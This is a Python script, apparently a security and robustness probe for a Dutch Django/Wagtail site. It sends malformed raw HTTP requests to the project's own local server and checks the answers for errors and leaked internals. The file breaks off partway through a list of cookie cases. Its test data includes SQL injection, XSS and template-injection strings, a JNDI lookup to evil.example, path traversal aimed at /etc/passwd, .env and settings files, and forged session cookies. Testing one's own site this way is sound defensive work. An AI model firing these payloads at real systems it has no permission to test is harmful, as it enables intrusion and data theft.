"""Fire a large battery of hostile HTTP requests at a running site and report what broke.

Standard library only: requests go out as raw bytes over a socket, so they can carry
what no HTTP client library would send (NUL bytes, invalid UTF-8, broken chunking,
lying Content-Length, missing Host). Every request is one connection with
`Connection: close`.

Recorded as findings:
- a status >= 500, a connection reset or a connection closed without a response;
- a hang (no complete answer within the timeout);
- a body that leaks internals: "Traceback", 'File "/', "django", "Exception",
  "SECRET", "site-packages", "most recent call last" or the project's path;
- a status other than the expected one, for the few cases that state one
  (a bad Host header must give 400, not 500).
With --log, the server log written during the run is scanned for tracebacks and
ERROR lines too. Each request carries `X-Request-ID: hp-<run>-<n>` (unless the case
tampers with that header), so log lines point back at the case.

    .venv/bin/python bench/hostile_probe.py --port 8931 --log /tmp/gunicorn.log \
        --json /tmp/hostile-report.json

Serve the site like production with DJANGO_RATELIMIT_ENABLED=false first (see
README.md); the probe posts feedback and saves measurements in that database.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import json
import re
import secrets
import select
import socket
import sys
import time
import zlib
from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

# --- what counts as a leak -------------------------------------------------------------

LEAKS = [
    (re.compile(rb"Traceback"), "Traceback"),
    (re.compile(rb'File "/'), 'File "/'),
    (re.compile(rb"django"), "django"),
    (re.compile(rb"Exception"), "Exception"),
    (re.compile(rb"SECRET"), "SECRET"),
    (re.compile(rb"site-packages"), "site-packages"),
    (re.compile(rb"most recent call last"), "most recent call last"),
    (re.compile(rb"line \d+, in [A-Za-z_<]"), "stack frame"),
]
PROJECT_DIR = Path(__file__).resolve().parent.parent
# Django's JavaScript translation catalog defines a `django` JS object: public by design.
NOT_LEAKS = ("/admin/jsi18n/",)


def say(*parts: object, file: Any = None) -> None:
    """Print without `print` (the linter keeps prints out of the code base)."""
    (file or sys.stdout).write(" ".join(str(p) for p in parts) + "\n")


# --- raw HTTP -----------------------------------------------------------------------------


@dataclass
class Response:
    status: int | None = None
    reason: str = ""
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes = b""
    elapsed: float = 0.0
    error: str = ""  # "", "timeout", "reset", "no-response", "refused", "bad-status-line"
    send_error: str = ""
    raw_len: int = 0

    def header(self, name: str) -> str | None:
        name = name.lower()
        for key, value in self.headers:
            if key.lower() == name:
                return value
        return None

    def cookies(self) -> dict[str, str]:
        jar = {}
        for key, value in self.headers:
            if key.lower() == "set-cookie":
                pair = value.split(";", 1)[0]
                if "=" in pair:
                    name, _, val = pair.partition("=")
                    jar[name.strip()] = val.strip()
        return jar

    def text(self) -> str:
        return self.body.decode("utf-8", "replace")


def _b(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode("utf-8", "surrogateescape")


def _dechunk(data: bytes) -> bytes:
    out, rest = [], data
    while rest:
        line, sep, rest = rest.partition(b"\r\n")
        if not sep:
            break
        try:
            size = int(line.split(b";", 1)[0].strip() or b"0", 16)
        except ValueError:
            return data
        if size == 0:
            break
        out.append(rest[:size])
        rest = rest[size + 2 :]
    return b"".join(out)


def parse_response(data: bytes) -> Response:
    response = Response(raw_len=len(data))
    head, sep, body = data.partition(b"\r\n\r\n")
    if not sep:
        response.error = "no-response" if not data else "bad-status-line"
        response.body = data
        return response
    lines = head.split(b"\r\n")
    match = re.match(rb"HTTP/\d\.\d (\d{3})(?: (.*))?$", lines[0])
    if not match:
        response.error = "bad-status-line"
        response.body = data
        return response
    response.status = int(match.group(1))
    response.reason = (match.group(2) or b"").decode("latin-1")
    for line in lines[1:]:
        name, _, value = line.partition(b":")
        response.headers.append((name.decode("latin-1").strip(), value.decode("latin-1").strip()))
    if (response.header("transfer-encoding") or "").lower() == "chunked":
        body = _dechunk(body)
    if (response.header("content-encoding") or "").lower() == "gzip":
        with contextlib.suppress(OSError, EOFError, zlib.error):
            body = gzip.decompress(body)
    response.body = body
    return response


class Server:
    def __init__(self, host: str, port: int, timeout: float) -> None:
        self.host, self.port, self.timeout = host, port, timeout

    @property
    def authority(self) -> str:
        return f"{self.host}:{self.port}"

    def exchange(
        self,
        head: bytes,
        body: bytes | Iterable[bytes] = b"",
        timeout: float | None = None,
        half_close: bool = False,
    ) -> Response:
        """Send `head` + `body`; read until the server closes or the deadline passes.

        Big bodies go out in pieces; when the server answers (or closes) early, the
        rest is not sent and its answer is read.
        """
        timeout = self.timeout if timeout is None else timeout
        start = time.monotonic()
        try:
            sock = socket.create_connection((self.host, self.port), timeout=5)
        except OSError as exc:
            return Response(error="refused", send_error=str(exc))
        sock.settimeout(timeout)
        send_error = ""
        try:
            pieces: Iterable[bytes] = [body] if isinstance(body, bytes) else body
            sock.sendall(head)
            for piece in pieces:
                for offset in range(0, len(piece), 65536):
                    readable, _, _ = select.select([sock], [], [], 0)
                    if readable:
                        send_error = "server answered before the body was sent"
                        raise StopIteration
                    sock.sendall(piece[offset : offset + 65536])
        except StopIteration:
            pass
        except OSError as exc:
            send_error = f"{type(exc).__name__}: {exc}"
        if half_close:
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_WR)
        chunks: list[bytes] = []
        error = ""
        deadline = start + timeout
        try:
            while True:
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    error = "timeout"
                    break
                sock.settimeout(remaining)
                chunk = sock.recv(262144)
                if not chunk:
                    break
                chunks.append(chunk)
        except TimeoutError:
            error = "timeout"
        except ConnectionResetError:
            error = "reset"
        except OSError as exc:
            error = f"{type(exc).__name__}"
        finally:
            sock.close()
        data = b"".join(chunks)
        response = parse_response(data)
        response.elapsed = time.monotonic() - start
        response.send_error = send_error
        if error == "timeout" and response.status is not None and _complete(response, data):
            error = ""
        if error and response.status is not None and error == "reset":
            error = ""  # answered, then reset (unread request body): the answer stands
        response.error = error or response.error
        return response


def _complete(response: Response, data: bytes) -> bool:
    length = response.header("content-length")
    return length is not None and length.isdigit() and len(response.body) >= int(length)


def build_head(
    method: str | bytes,
    target: str | bytes,
    headers: Iterable[tuple[str | bytes, str | bytes]] = (),
    version: bytes = b"HTTP/1.1",
) -> bytes:
    lines = [_b(method) + b" " + _b(target) + b" " + version]
    lines += [_b(name) + b": " + _b(value) for name, value in headers]
    return b"\r\n".join(lines) + b"\r\n\r\n"


# --- the battery ----------------------------------------------------------------------------


@dataclass
class Case:
    n: int
    group: str
    label: str
    method: str
    target: str
    request_id: str
    expect: tuple[int, ...] | None = None
    expect_hang: bool = False
    allow: tuple[int, ...] = ()
    outcome: str = ""


@dataclass
class Finding:
    case: Case
    kind: str
    status: int | None
    detail: str

    def as_json(self) -> dict[str, Any]:
        return {
            "n": self.case.n,
            "group": self.case.group,
            "label": self.case.label,
            "method": self.case.method,
            "target": self.case.target,
            "request_id": self.case.request_id,
            "kind": self.kind,
            "status": self.status,
            "detail": self.detail,
        }


SQLI = "' OR 1=1--"
XSS = "<script>alert(1)</script>"
SSTI = "{{7*7}}"
JNDI = "${jndi:ldap://evil.example/a}"
HOSTILE_STRINGS = [SQLI, XSS, SSTI, JNDI, "{% debug %}", "../../../../etc/passwd", "%s%s%s%n", "\u202e\u0000"]

# Values for one answer (q1): encoded as they appear in the query string (raw, not re-quoted).
ANSWER_VALUES_RAW = [
    "",
    "%",
    "%%",
    "%Z",
    "%ZZ",
    "%C0%AE",
    "%C0%80",
    "%E0%80%AF",
    "%F0%80%80%AF",
    "%ED%A0%80",
    "%F4%90%80%80",
    "%FF",
    "%FE%FF",
    "%00",
    "1%00",
    "%001",
    "%D9%A1",
    "%C2%B2",
    "%EF%BC%91",
    "%E0%A5%A7",
    "+1",
    "%2B1",
    "%201",
    "1%20",
    "%091",
    "1%0A",
    "%0D%0A1",
    "0x1",
    "1e0",
    "01",
    "1.0",
    "-1",
    "0",
    "3",
    "9" * 50,
    "1,2",
    "true",
    "null",
    "[]",
    "{}",
    "1;q2=2",
    "1&q1=2",
    "1&q1=1",
    "1&q1=",
    "%26",
    "%3D",
    "1=1",
    "%2F",
    "..%2F",
    "%25",
    "%2525",
]


def quoted(value: str) -> str:
    return quote(value, safe="")


def _mixed(values: list[Any]) -> list[Any]:
    """A list of values of any type (hostile inputs), as mypy should see it."""
    return values


class Probe:
    def __init__(self, server: Server, verbose: bool = False) -> None:
        self.server = server
        self.verbose = verbose
        self.run_id = secrets.token_hex(3)
        self.cases: list[Case] = []
        self.findings: list[Finding] = []
        self.statuses: Counter[str] = Counter()
        self.groups: Counter[str] = Counter()
        self.csrf_secret = ""
        self.csrf_token = ""
        self.item_ids: dict[str, int | str] = {}  # item ids, and the cell each was found in
        self.statement_keys: list[str] = []
        self.measurement_token = ""
        self.series_token = ""
        self.comment_token = ""
        self.static_path = "/static/cms/css/site.css"

    # -- sending

    def send(
        self,
        group: str,
        label: str,
        method: str | bytes,
        target: str | bytes,
        headers: Iterable[tuple[str | bytes, str | bytes]] = (),
        body: bytes | Iterable[bytes] = b"",
        *,
        host: str | bytes | None = "default",
        content_length: str | bytes | None = "auto",
        connection_close: bool = True,
        request_id: bool = True,
        version: bytes = b"HTTP/1.1",
        timeout: float | None = None,
        expect: tuple[int, ...] | None = None,
        expect_hang: bool = False,
        allow: tuple[int, ...] = (),
        half_close: bool = False,
        csrf: bool = False,
    ) -> Response:
        n = len(self.cases) + 1
        rid = f"hp-{self.run_id}-{n:05d}"
        header_list: list[tuple[str | bytes, str | bytes]] = []
        if host == "default":
            header_list.append(("Host", self.server.authority))
        elif host is not None:
            header_list.append(("Host", host))
        header_list += list(headers)
        names = {_b(name).lower() for name, _ in header_list}
        if csrf:
            cookie = f"csrftoken={self.csrf_secret}"
            if b"cookie" in names:
                header_list = [
                    (k, _b(v) + b"; " + cookie.encode()) if _b(k).lower() == b"cookie" else (k, v)
                    for k, v in header_list
                ]
            else:
                header_list.append(("Cookie", cookie))
        if request_id and b"x-request-id" not in names:
            header_list.append(("X-Request-ID", rid))
        if connection_close and b"connection" not in names:
            header_list.append(("Connection", "close"))
        if content_length == "auto":
            if b"transfer-encoding" not in names and b"content-length" not in names:
                size = len(body) if isinstance(body, bytes) else None
                if size is None:
                    raise ValueError("give content_length for an iterable body")
                if size or _b(method).upper() in (b"POST", b"PUT", b"PATCH"):
                    header_list.append(("Content-Length", str(size)))
        elif content_length is not None:
            header_list.append(("Content-Length", content_length))
        head = build_head(method, target, header_list, version)
        shown_target = _b(target)[:300].decode("utf-8", "backslashreplace")
        case = Case(
            n,
            group,
            label,
            _b(method)[:40].decode("latin-1"),
            shown_target,
            rid if request_id else "",
            expect,
            expect_hang,
            allow,
        )
        self.cases.append(case)
        self.groups[group] += 1
        response = self.server.exchange(head, body, timeout=timeout, half_close=half_close)
        self.check(case, response)
        return response

    def check(self, case: Case, response: Response) -> None:
        status_key = str(response.status) if response.status is not None else response.error or "none"
        self.statuses[status_key] += 1
        case.outcome = status_key
        if self.verbose:
            say(f"{case.n:5d} {status_key:>12} {case.group:10} {case.label[:60]}", file=sys.stderr)
        problems: list[tuple[str, str]] = []
        if response.error:
            if case.expect_hang and response.error == "timeout":
                problems.append(("expected-hang", "no answer while the client withholds promised bytes"))
            else:
                detail = response.error + (f" (send: {response.send_error})" if response.send_error else "")
                problems.append((response.error, detail))
        if response.status is not None and response.status >= 500 and response.status not in case.allow:
            problems.append(("5xx", f"{response.status} {response.reason}; body {response.body[:160]!r}"))
        if case.expect and response.status is not None and response.status not in case.expect:
            problems.append(("unexpected-status", f"got {response.status}, expected {case.expect}"))
        for pattern, name in [*LEAKS, (re.compile(re.escape(str(PROJECT_DIR).encode())), "project path")]:
            match = pattern.search(response.body)
            if match and name == "django" and case.target.startswith(NOT_LEAKS):
                continue
            if match:
                start = max(0, match.start() - 60)
                snippet = response.body[start : match.end() + 60]
                problems.append(("leak", f"{name!r} in body: ...{snippet!r}..."))
        for kind, detail in problems:
            self.findings.append(Finding(case, kind, response.status, detail))

    # -- discovery

    def prime(self) -> None:
        """A valid CSRF cookie and token, item ids, statement keys, a saved measurement."""
        page = self.send("setup", "checklist form for a CSRF token", "GET", "/checklist/")
        self.csrf_secret = page.cookies().get("csrftoken", "")
        match = re.search(r'name="csrfmiddlewaretoken" value="([A-Za-z0-9]+)"', page.text())
        self.csrf_token = match.group(1) if match else ""
        static = re.search(r'href="(/static/[^"]+\.css)"', page.text())
        if static:
            self.static_path = static.group(1)
        if not (self.csrf_secret and self.csrf_token):
            say("warning: no CSRF cookie/token found; form posts will stop at CSRF", file=sys.stderr)
        advice = self.send(
            "setup", "advice API for item ids", "GET", "/api/wegwijzer/advice/?q1=2&q2=2&q3=2&q4=2&q5=1"
        )
        with contextlib.suppress(ValueError, KeyError, TypeError):
            for activity in json.loads(advice.body)["activities"]:
                for block in activity["blocks"]:
                    for kind, plural in (
                        ("tip", "tips"),
                        ("example", "examples"),
                        ("reference", "references"),
                    ):
                        for item in block[plural]:
                            self.item_ids.setdefault(kind, item["id"])
                            self.item_ids.setdefault(f"{kind}-cell", block["cell"])
        checklist = self.send("setup", "checklist API for statement keys", "GET", "/api/checklist/")
        with contextlib.suppress(ValueError, KeyError, TypeError):
            self.statement_keys = [
                s["key"] for theme in json.loads(checklist.body)["themes"] for s in theme["statements"]
            ]
        if not self.statement_keys:
            self.statement_keys = ["1.1", "1.2"]
        saved = self.form_post(
            "setup",
            "save a measurement",
            "/checklist/opslaan/",
            {f"score-{self.statement_keys[0]}": "3", "submission": secrets.token_urlsafe(16)},
        )
        location = saved.header("location") or ""
        match = re.search(r"/meting/([A-Za-z0-9_-]+)/", location)
        if match:
            self.measurement_token = match.group(1)
            page = self.send("setup", "the saved measurement", "GET", location)
            found = re.search(r"/reeks/([A-Za-z0-9_-]+)/", page.text())
            self.series_token = found.group(1) if found else ""
        tip = self.item_ids.get("tip", 1)
        voted = self.form_post(
            "setup",
            "a 'nee' vote for a comment token",
            "/feedback/",
            {"kind": "tip", "id": str(tip), "helpful": "nee", "cell": str(self.item_ids.get("tip-cell", ""))},
            headers=[("Accept", "application/json")],
        )
        with contextlib.suppress(ValueError, KeyError, TypeError):
            self.comment_token = json.loads(voted.body)["comment_token"] or ""

    def form_post(
        self,
        group: str,
        label: str,
        target: str,
        fields: dict[str, str] | list[tuple[str, str]] | bytes,
        headers: Iterable[tuple[str, str]] = (),
        csrf: bool = True,
        **kwargs: Any,
    ) -> Response:
        if isinstance(fields, bytes):
            body = fields
            if csrf:
                body += b"&csrfmiddlewaretoken=" + self.csrf_token.encode()
        else:
            pairs = list(fields.items()) if isinstance(fields, dict) else list(fields)
            if csrf:
                pairs.append(("csrfmiddlewaretoken", self.csrf_token))
            body = urlencode(pairs).encode()
        return self.send(
            group,
            label,
            "POST",
            target,
            [("Content-Type", "application/x-www-form-urlencoded"), *headers],
            body,
            csrf=csrf,
            **kwargs,
        )

    def json_post(
        self,
        group: str,
        label: str,
        target: str,
        raw: bytes,
        content_type: str = "application/json",
        **kw: Any,
    ) -> Response:
        return self.send(group, label, "POST", target, [("Content-Type", content_type)], raw, **kw)

    # -- the URLs

    def public_urls(self) -> list[str]:
        urls = [
            "/",
            "/wegwijzer/",
            "/wegwijzer/advies/?q1=2&q2=1&q3=2&q4=1&q5=2",
            "/checklist/",
            "/checklist/resultaat/",
            "/checklist/opslaan/",
            "/checklist/verwijderd/?wat=reeks",
            "/toegankelijkheid/",
            "/health/",
            "/feedback/",
            "/feedback/opmerking/",
            "/api/wegwijzer/",
            "/api/wegwijzer/advice/?q1=1",
            "/api/checklist/",
            "/api/checklist/results/",
            "/api/feedback/",
            "/api/schema/",
            "/api/v2/pages/",
            "/api/v2/pages/3/",
            "/api/v2/pages/find/?html_path=/wegwijzer/",
            "/admin/",
            "/admin/login/",
            "/documents/1/x.pdf",
            "/bestaat-niet/",
            self.static_path,
        ]
        if self.measurement_token:
            urls += [
                f"/checklist/meting/{self.measurement_token}/",
                f"/checklist/reeks/{self.series_token}/",
                f"/checklist/reeks/{self.series_token}/nieuw/",
                f"/checklist/meting/{self.measurement_token}/verwijderen/",
            ]
        return urls

    # -- groups

    def run(self, only: set[str] | None = None) -> None:
        self.prime()
        for group in (
            self.g_queries,
            self.g_paths,
            self.g_methods,
            self.g_hosts,
            self.g_headers,
            self.g_bodies,
            self.g_json_api,
            self.g_feedback_forms,
            self.g_checklist_forms,
            self.g_measurements,
            self.g_admin,
            self.g_wagtail_api,
            self.g_transport,
            self.g_cleanup,
        ):
            if not only or group.__name__.removeprefix("g_") in only:
                group()

    def g_queries(self) -> None:
        g = "query"
        answer_endpoints = ["/wegwijzer/", "/wegwijzer/advies/", "/api/wegwijzer/advice/"]
        rest = "&q2=1&q3=2&q4=1&q5=2"
        for path in answer_endpoints:
            for value in ANSWER_VALUES_RAW:
                self.send(g, f"q1={value}", "GET", f"{path}?q1={value}{rest}")
            for value in ["١", "²", "１", "९", " 1", "1 ", "\t1", "ǅ", "\u200b1", "1\u00a0"]:
                self.send(g, f"q1={value!r} percent-encoded", "GET", f"{path}?q1={quoted(value)}")
            for key in [
                "q1[]",
                "q1[0]",
                "q1%5B%5D",
                "q0",
                "q6",
                "q01",
                "q001",
                "q1%20",
                "Q1",
                "q",
                "q1.1",
                "q-1",
                "q%2B1",
                "q%D9%A1",
                "q%C2%B2",
                "q99999999999999999999",
                "q1%00",
                "%00",
                "q%FF",
                "%FF",
                "q1e0",
                "q0x1",
                "qq1",
                "q" + "9" * 3000,
            ]:
                self.send(g, f"key {key[:40]}", "GET", f"{path}?{key}=1")
            for raw in [
                "q1=1;q2=2",
                "q1=1&q1=2",
                "q1=1&q1=1",
                "q1&q2",
                "=",
                "&&&&",
                "q1==1",
                "q1=1=1",
                "?q1=1?q2=2",
                "q1=1#frag",
                "q1",
                "&q1=2&",
                "q1=%",
                "q1=1&" * 200 + "q2=1",
                "a=1&" * 201,
                "a&" * 1000,
                "q1=" + "1" * 100_000,
                "q1=" + "A" * 3900,
                "&".join(f"p{i}={i}" for i in range(10_000)),
                "&".join(f"q1={i % 2 + 1}" for i in range(300)),
            ]:
                self.send(g, f"structure {raw[:50]}", "GET", f"{path}?{raw}")
            for value in HOSTILE_STRINGS:
                self.send(g, f"q1 hostile {value[:20]}", "GET", f"{path}?q1={quoted(value)}")
                self.send(g, f"key hostile {value[:20]}", "GET", f"{path}?{quoted(value)}=1")
            self.send(g, "raw NUL byte in query", "GET", f"{path}?q1=1\x00".encode())
            self.send(g, "raw invalid UTF-8 in query", "GET", path.encode() + b"?q1=\xff\xfe\xc0\xae")
            self.send(g, "raw space in query", "GET", f"{path}?q1= 1")
            self.send(g, "raw non-ASCII in query", "GET", f"{path}?q1=١".encode())
        generic = [
            "/",
            "/checklist/",
            "/checklist/verwijderd/",
            "/toegankelijkheid/",
            "/health/",
            "/api/checklist/",
            "/api/wegwijzer/",
            "/api/v2/pages/",
            "/admin/login/",
            "/api/schema/",
            "/bestaat-niet/",
        ]
        for path in generic:
            for raw in [
                "%",
                "%ZZ",
                "%C0%AE",
                "%00",
                "%FF=%FF",
                "x=" + "A" * 100_000,
                "a=1&" * 201,
                "a&" * 1000,
                "&".join(f"p{i}=1" for i in range(10_000)),
                f"x={quoted(SQLI)}",
                f"x={quoted(XSS)}",
                f"x={quoted(SSTI)}",
                f"x={quoted(JNDI)}",
                "wat=%FF",
                "wat=reeks%00",
                "format=xml",
                "format=api",
                "format=%00",
                "next=//evil.example",
                "bedankt=x&reactie=%FF",
            ]:
                self.send(g, f"{path} ?{raw[:40]}", "GET", f"{path}?{raw}")
            self.send(g, f"{path} raw invalid UTF-8 query", "GET", path.encode() + b"?x=\xff\xc0\xae&\xfe=1")
        # The feedback includes read ?bedankt= on every page with feedback forms (and must ignore the
        # former ?reactie=: the comment token now travels in a cookie, never in an address).
        advice = "/wegwijzer/advies/?q1=2&q2=2&q3=2&q4=2&q5=1"
        for anchor in ["algemene-feedback", "Fa-tip-1", "opmerking", XSS, "%00", "a" * 3000]:
            for token in ["", "x", XSS, "%FF%FE", "A" * 3000, self.comment_token or "abc:def"]:
                self.send(
                    g,
                    f"thanks anchor {anchor[:15]} token {token[:15]}",
                    "GET",
                    f"{advice}&bedankt={quoted(anchor)}&reactie={quoted(token)}",
                )
        for ctx in ["1.1=3", "q1=2&1.1=3", "q1=9", "%FF", "1.1=" + "3" * 600]:
            self.send(g, f"advice with context-like params {ctx[:20]}", "GET", f"{advice}&{ctx}")
        self.send(g, "checklist form with score params", "GET", "/checklist/?1.1=3&2.1=%FF&q1=1")

    def g_paths(self) -> None:
        g = "path"
        raw_paths: list[bytes] = [
            b"/\xff\xfe/",
            b"/wegwijzer/\xc0\xae/",
            b"/wegwijzer/advies/\xff",
            b"/api/\xff/",
            b"/admin/\xff/",
            b"/checklist/meting/\xff\xfe\xfd/",
            b"/static/\xff.css",
            b"/\x00",
            b"/wegwijzer/\x00/",
            b"/api/wegwijzer/\x00",
            b"/checklist/meting/\x00/",
            b"/\x01\x02\x1b[31m/",
            b"/%",
            b"/%ZZ/",
            b"/%C0%AE%C0%AE/",
            b"/%FF/",
            b"/%00/",
            b"/wegwijzer%00/",
            b"/checklist/%E0%80%AF/",
            b"/..%2f..%2f..%2fetc/passwd",
            b"/wegwijzer/..%2f..%2fcms/settings/base.py",
            b"//",
            b"//wegwijzer//advies//?q1=1",
            b"///evil.example/",
            b"//evil.example/%2e%2e",
            b"/wegwijzer/advies/..;/",
            b"/wegwijzer/advies/;jsessionid=1",
            b"/wegwijzer;/advies/",
            b"/static/../pianoo/settings/base.py",
            b"/static/%2e%2e/pianoo/settings/base.py",
            b"/static/%2e%2e/",
            b"/static/..%2f..%2fmanage.py",
            b"/static/..\\..\\manage.py",
            b"/static/%252e%252e/",
            b"/static/cms/css/",
            b"/static/",
            b"/static",
            b"/static/staticfiles.json",
            b"/static/cms/css/site.css%00.js",
            b"/media/../db.sqlite3",
            b"/media/",
            b"/db.sqlite3",
            b"/.secret-key",
            b"/.git/config",
            b"/.env",
            b"/admin/../",
            b"/admin/%2e%2e/",
            b"/admin/..%2f",
            b"/api/../admin/",
            b"/wegwijzer/advies/%20",
            b"/wegwijzer/advies%20/",
            b"/wegwijzer/%20",
            b"/WEGWIJZER/",
            b"/Wegwijzer/Advies/",
            b"/API/wegwijzer/",
            b"/Admin/",
            b"/CHECKLIST/",
            b"/checklist/RESULTAAT/",
            b"/wegwijzer/advies",
            b"/api/wegwijzer/advice",
            b"/health",
            b"/feedback",
            b"/feedback/opmerking",
            b"/wegwijzer/advies/extra/",
            b"/checklist/meting/",
            b"/checklist/meting//",
            b"/checklist/reeks/",
            b"/checklist/verwijderd/extra/",
            b"/documents/",
            b"/documents/1/",
            b"/documents/99999999999999999999/x.pdf",
            b"/documents/-1/x.pdf",
            b"/documents/abc/x.pdf",
            b"/documents/1/%00.pdf",
            b"/documents/authenticate_with_password/1/1/",
            b"/documents/authenticate_with_password/abc/x/",
            b"/api/v2/pages/%00/",
            b"/api/v2/pages/-1/",
            b"/api/v2/pages/99999999999999999999/",
            b"/api/v2/pages/1.5/",
            b"/api/v2/pages/abc/",
            b"/api/v2/images/",
            b"/api/v2/documents/",
            b"/_util/authenticate_with_password/1/1/",
            b"/%2e/",
            b"/./",
            b"/wegwijzer/./advies/",
            b"/wegwijzer/../wegwijzer/",
            b"/\\wegwijzer\\",
            b"/wegwijzer/advies/?q1=1?",
            b"/*",
            b"*",
            b"http://evil.example/",
            b"http://127.0.0.1/wegwijzer/",
            b"https://[::1/",
            b"//[/",
            b"//[::1",
            b"/a" * 5000,
            b"/" + b"x" * 10_000 + b"/",
            b"/wegwijzer/advies/" + b"A" * 3900,
            b"/checklist/meting/" + b"A" * 3900 + b"/",
            b"/" + "é".encode() * 1000 + b"/",
            b"/%" + b"%" * 2000,
            b"/" + b"%C0%AE" * 600 + b"/",
            b"/\xe2\x80\xae/",
            b"/\xf0\x9f\x92\xa9/",
            b"/\xed\xa0\x80/",
            b"/\xf4\x90\x80\x80/",
            b"/wegwijzer/advies/?q1=1#x",
            b"/#",
            b"/?#",
            b"/robots.txt",
            b"/sitemap.xml",
            b"/favicon.ico",
            b"/.well-known/security.txt",
        ]
        for path in raw_paths:
            self.send(g, f"path {path[:60]!r}", "GET", path)
        for word in [SQLI, XSS, SSTI, JNDI]:
            self.send(g, f"path hostile {word[:20]}", "GET", "/" + quoted(word) + "/")
            self.send(g, f"checklist route hostile {word[:20]}", "GET", f"/checklist/meting/{quoted(word)}/")

    def g_methods(self) -> None:
        g = "method"
        methods: list[str | bytes] = [
            "HEAD",
            "PUT",
            "DELETE",
            "PATCH",
            "OPTIONS",
            "TRACE",
            "PROPFIND",
            "CONNECT",
            "MKCOL",
            "LOCK",
            "SEARCH",
            "FOO",
            "get",
            "GeT",
            "POST ",
            b"G\x00T",
            b"G\xffT",
            "X" * 300,
            "M-SEARCH",
            "QUERY",
        ]
        for url in self.public_urls():
            for method in methods:
                body = b'{"a": 1}' if method in ("PUT", "PATCH", "PROPFIND", "QUERY", "SEARCH") else b""
                headers = [("Content-Type", "application/json")] if body else []
                self.send(g, f"{method!r} {url[:60]}", method, url, headers, body)
            self.send(g, f"POST without body {url[:60]}", "POST", url)
            self.send(g, f"POST with CSRF and empty form {url[:60]}", "POST", url,
                      [("Content-Type", "application/x-www-form-urlencoded")],
                      f"csrfmiddlewaretoken={self.csrf_token}".encode(), csrf=True)  # fmt: skip
            self.send(
                g, f"GET with a body {url[:60]}", "GET", url, [("Content-Type", "text/plain")], b"x" * 100
            )
        for override in ["DELETE", "PUT", "PATCH", "TRACE"]:
            for header in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"]:
                self.send(g, f"{header}: {override}", "POST", "/api/checklist/results/",
                          [(header, override), ("Content-Type", "application/json")], b'{"scores": {}}')  # fmt: skip
            self.send(g, f"_method={override}", "POST", "/checklist/resultaat/?_method=" + override,
                      [("Content-Type", "application/x-www-form-urlencoded")],
                      f"_method={override}&csrfmiddlewaretoken={self.csrf_token}".encode(), csrf=True)  # fmt: skip

    def g_hosts(self) -> None:
        g = "host"
        bad_request = (400,)
        port = self.server.port
        hosts: list[tuple[bytes | str, tuple[int, ...] | None]] = [
            ("evil.example", bad_request),
            ("evil.example:80", bad_request),
            ("127.0.0.1.evil.example", bad_request),
            ("localhost.", None),
            (f"127.0.0.1:{port}", None),
            ("127.0.0.1:99999999999999999999", None),
            ("127.0.0.1:abc", bad_request),
            ("127.0.0.1:", None),
            ("127.0.0.1:-1", bad_request),
            ("LOCALHOST", None),
            ("[::1]", bad_request),
            ("[::1", bad_request),
            ("127.0.0.1@evil.example", bad_request),
            ("evil.example#127.0.0.1", bad_request),
            ("127.0.0.1/evil", bad_request),
            ("127.0.0.1 evil", bad_request),
            ("127.0.0.1,evil.example", bad_request),
            ("a" * 10_000, (400, 431)),
            ("a." * 200 + "localhost", bad_request),
            ("", bad_request),
            (" ", bad_request),
            (b"\xff\xfe", bad_request),
            (b"127.0.0.1\x00", bad_request),
            ("l\u0131ocalhost".encode(), bad_request),
            ("xn--localhost", bad_request),
            ("*", bad_request),
            ("..", bad_request),
            ("${jndi:ldap://x/a}", bad_request),
            ("<script>", bad_request),
        ]
        urls = ["/", "/wegwijzer/advies/?q1=1", "/api/wegwijzer/advice/?q1=1", "/checklist/", "/health/",
                "/admin/login/", "/bestaat-niet/", "/api/bestaat-niet/", "/static/bestaat-niet.css",
                f"/checklist/meting/{self.measurement_token or 'x' * 32}/"]  # fmt: skip
        for url in urls:
            for host, expect in hosts:
                shown = host if isinstance(host, str) else host.decode("latin-1")
                self.send(g, f"Host {shown[:30]!r} {url}", "GET", url, host=host, expect=expect)
            self.send(g, f"no Host HTTP/1.1 {url}", "GET", url, host=None)
            self.send(g, f"no Host HTTP/1.0 {url}", "GET", url, host=None, version=b"HTTP/1.0")
            self.send(g, f"two Host headers {url}", "GET", url, [("Host", "evil.example")])
            self.send(g, f"X-Forwarded-Host evil {url}", "GET", url, [("X-Forwarded-Host", "evil.example")])
            self.send(g, f"absolute URI to evil {url}", "GET", f"http://evil.example{url}")
        self.form_post(g, "feedback post with evil Host", "/feedback/", {"kind": "general", "comment": "x"},
                       host="evil.example", expect=bad_request)  # fmt: skip
        self.form_post(g, "feedback post with evil Origin", "/feedback/", {"kind": "general", "comment": "x"},
                       headers=[("Origin", "http://evil.example")], expect=(403,))  # fmt: skip
        self.form_post(g, "feedback post with Origin null", "/feedback/", {"kind": "general", "comment": "x"},
                       headers=[("Origin", "null")], expect=(403,))  # fmt: skip

    def g_headers(self) -> None:
        g = "header"
        urls = ["/", "/wegwijzer/advies/?q1=2&q2=1", "/api/wegwijzer/advice/?q1=2", "/checklist/",
                self.static_path, "/health/", "/admin/login/"]  # fmt: skip
        cookie_sets: list[tuple[str, bytes | str]] = [
            ("8 KB cookie", "big=" + "a" * 8200),
            ("64 KB cookie", "big=" + "a" * 65_000),
            ("1000 cookies", "; ".join(f"c{i}={i}" for i in range(1000))),
            ("malformed cookie syntax", ';;;==; =; a==b; ;c; "d"=e; f="g'),
            ("cookie with invalid UTF-8", b"a=\xff\xfe; csrftoken=\xc0\xae"),
            ("cookie with NUL", b"a=\x00; b=1"),
            ("csrftoken short", "csrftoken=abc"),
            ("csrftoken long", "csrftoken=" + "a" * 500),
            ("csrftoken odd chars", "csrftoken=" + "!@#$%^&*()" * 3 + "ab"),
            ("csrftoken 64 chars odd", "csrftoken=" + "é" * 64),
            ("csrftoken 32 chars non-alnum", "csrftoken=" + "-" * 32),
            ("csrftoken 64 chars valid alphabet", "csrftoken=" + "A" * 64),
            ("two csrftoken cookies", f"csrftoken=abc; csrftoken={self.csrf_secret}"),
            ("sessionid garbage", "sessionid=" + "x" * 40),
            ("sessionid forged signed", "sessionid=.eJxTSsrPzy1WslJKzcjLzLMwBAA:1:abc"),
